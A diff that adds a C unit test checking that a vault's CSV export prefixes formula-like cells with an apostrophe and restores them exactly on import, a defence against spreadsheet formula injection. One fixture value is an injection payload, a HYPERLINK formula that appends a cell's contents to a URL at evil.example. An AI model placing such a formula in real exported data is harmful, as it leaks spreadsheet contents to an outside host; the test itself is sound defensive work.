@@ -998,6 +998,55 @@ test_export_empty (void)
   fixture_close (&f);
 }
 
+/* Cells a spreadsheet would run as formulas leave with an apostrophe in
+ * front and come back exactly as they were. */
+static void
+test_export_formula_guard (void)
+{
+  Fixture f = { 0 }, g = { 0 };
+  g_autoptr (SpImportReport) report = NULL;
+  g_autoptr (GError) error = NULL;
+  g_autoptr (GBytes) csv = NULL;
+  g_autoptr (GPtrArray) back = NULL;
+  const char *names[] = { "=HYPERLINK(\"https://evil.example/?\"&E2,\"x\")",
+                          "+375 29 1234567",
+                          "-minus",
+                          "@at",
+                          "'=already",
+                          "''+two",
+                          "'plain",
+                          "plain" };
+  g_autofree char *text = NULL;
+
+  fixture_open (&f);
+  fixture_open (&g);
+  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
+    g_free (sp_test_insert (f.vault, "org", "name", names[i], NULL));
+  csv = sp_vault_export_csv (f.vault, "org", &error);
+  g_assert_no_error (error);
+  text = g_strndup (g_bytes_get_data (csv, NULL), g_bytes_get_size (csv));
+  g_assert_nonnull (strstr (text, "\"'=HYPERLINK"));
+  g_assert_nonnull (strstr (text, "\"'+375"));
+  g_assert_nonnull (strstr (text, "\"'@at\""));
+  g_assert_nonnull (strstr (text, "\"''=already\""));
+  g_assert_nonnull (strstr (text, "\"'plain\""));
+  g_assert_null (strstr (text, "\"=HYPERLINK"));
+  g_assert_true (import (g.vault, "org", text, FALSE, &report, &error));
+  g_assert_no_error (error);
+  back = sp_vault_list (g.vault, "org", NULL, &error);
+  g_assert_cmpuint (back->len, ==, G_N_ELEMENTS (names));
+  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
+    {
+      gboolean found = FALSE;
+      for (guint j = 0; j < back->len; j++)
+        found = found || g_strcmp0 (sp_record_get (back->pdata[j], "name"), names[i]) == 0;
+      if (!found)
+        g_error ("%s did not come back", names[i]);
+    }
+  fixture_close (&f);
+  fixture_close (&g);
+}
+
 int
 main (int argc, char **argv)
 {
@@ -1033,5 +1082,6 @@ main (int argc, char **argv)
   g_test_add_func ("/csv/export/round-trip", test_export_round_trip);
   g_test_add_func ("/csv/export/empty", test_export_empty);
 
+  g_test_add_func ("/csv/export/formula-guard", test_export_formula_guard);
   return g_test_run ();
 }
